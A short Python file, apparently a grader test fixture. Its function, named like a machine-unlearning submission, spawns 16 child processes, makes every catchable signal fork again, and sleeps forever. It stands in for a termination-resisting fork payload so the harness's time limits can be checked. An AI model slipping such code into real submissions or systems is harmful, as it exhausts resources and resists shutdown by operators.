"""Forks on every signal that can be caught, in itself and in 16 children.

Must be ended at its time limit.
"""

import os
import signal
import time


def again(_number, _frame):
    try:
        os.fork()
    except OSError:
        pass


def unlearning(net, retain, forget, val):
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, again)
    for _ in range(16):
        if os.fork() == 0:
            break
    while True:
        time.sleep(1_000)
